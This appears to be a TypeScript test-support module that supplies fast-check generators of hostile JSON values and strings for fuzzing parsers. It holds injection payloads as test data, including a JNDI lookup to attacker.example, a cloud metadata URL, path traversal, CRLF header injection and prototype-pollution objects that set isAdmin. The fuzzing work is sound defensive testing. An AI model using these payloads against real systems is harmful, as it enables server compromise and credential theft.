import fc from 'fast-check';

/** What a value becomes part of once it is read: paths, headers, dates, numbers, keys, log lines. */
const hostileTexts = [
  '',
  ' ',
  '.',
  '..',
  '../../oauth/clients',
  '%2e%2e%2f',
  '/',
  '//attacker.example/',
  'http://[',
  'http://169.254.169.254/latest/meta-data/',
  'https://attacker.example/api/v2/oauth/clients?pageNumber=2',
  '?__proto__=1&constructor=2',
  '\u0000',
  '\r\nx-injected: 1',
  '\ud800',
  '\udfff\ud800',
  'ﷺ'.repeat(200),
  '<html><body>Bad gateway</body></html>',
  '__proto__',
  'constructor',
  'toString',
  'at(9999999-01-01T00:00:00)',
  'at(never)',
  'NaN',
  '+275760-09-13T00:00:00.001Z',
  '0000-00-00',
  '1e999',
  `${'$'}{jndi:ldap://attacker.example/a}`,
  '[genesys-oauth-rotation secret=arn:aws:x token=y]',
  'a'.repeat(20_000),
] as const;

/** JSON has no such numbers; parsers make `Infinity` or zero of them, or something near. */
const rawNumbers = ['1e400', '-1e400', '-0', '1e-400', '9007199254740993', '123456789012345678901234567890'];

const rawJSON = (JSON as unknown as { rawJSON(text: string): unknown }).rawJSON;

/** Objects that get at what every object has, or that pretend to be something else. */
const trickyObjects: readonly unknown[] = [
  {},
  [],
  [null],
  [[]],
  { length: -1 },
  { length: 4_294_967_296 },
  { toString: 'x', valueOf: 1, toJSON: 'y' },
  Object.fromEntries([['then', 'x']]),
  { rawJSON: '1' },
  withPrototypeKeys({}),
];

/** One that `JSON.parse` and spreading keep as a property of its own, and that careless copying assigns. */
export function withPrototypeKeys(value: object): object {
  const polluted = { polluted: true, isAdmin: true };
  return Object.fromEntries([
    ...Object.entries(value),
    ['__proto__', polluted],
    ['constructor', { prototype: polluted }],
    ['prototype', polluted],
  ]);
}

function nested(depth: number): unknown {
  let value: unknown = [];
  for (let level = 0; level < depth; level += 1) value = level % 2 === 0 ? { a: value } : [value];
  return value;
}

/** Anything that JSON can hold, with a liking for what parsers and those who use their results stumble over. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...hostileTexts) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(null, true, false, 0, -1, 0.5, 1e308, -1e308, 2 ** 53, 8.64e15, 253_402_300_800),
  },
  { weight: 1, arbitrary: fc.constantFrom(...rawNumbers).map((text) => rawJSON(text)) },
  { weight: 3, arbitrary: fc.constantFrom(...trickyObjects) },
  { weight: 1, arbitrary: fc.constantFrom(50, 500, 1_500).map(nested) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary' }) },
);

/** A text as a user or an attacker might enter it. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc.string({ unit: 'binary' }),
  fc.string(),
);
